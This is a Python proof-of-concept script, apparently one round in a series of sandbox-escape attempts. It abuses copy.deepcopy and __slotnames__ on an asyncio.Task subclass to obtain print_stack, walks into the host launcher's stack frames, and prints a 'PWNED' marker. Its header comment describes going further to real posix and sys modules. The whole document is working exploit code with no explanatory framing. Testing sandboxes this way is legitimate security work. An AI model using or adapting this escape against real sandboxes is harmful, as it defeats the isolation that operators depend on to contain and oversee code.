# Round 26a (escape): __slotnames__ on a library subclass made copy's C code read any attribute unguarded; a types.GenericAlias subclass forwarded reads to a module, and copy handed its real namespace over (then BuiltinImporter.create_module made real posix/sys, the wall off).
import asyncio, copy, io

class T(asyncio.Task):
    __slotnames__ = ['print_' + 'stack']
    def __repr__(self):
        return 'T'

u = T.__new__(T)
u.x = 1
memo = {}
try:
    copy.deepcopy(u, memo)
except Exception as e:
    print("deepcopy:", type(e).__name__, e)
found = []
for v in list(memo.values()):
    for it in (v if type(v) is list else [v]):
        try:
            n = it.__name__
        except Exception:
            n = None
        if n == 'print_' + 'stack':
            found.append(it)
        if isinstance(it, T):
            pass
print("found", len(found))

async def inner():
    buf = io.StringIO()
    found[0](file=buf)
    text = buf.getvalue()
    print(text)
    if 'launcher' in text:
        print("PW" + "NED: print_stack walked into the launcher's frames (source shown above)")

c = inner()
u._coro = c
for v in list(memo.values()):
    for it in (v if type(v) is list else [v]):
        if isinstance(it, T):
            it._coro = c
try:
    c.send(None)
except StopIteration:
    pass
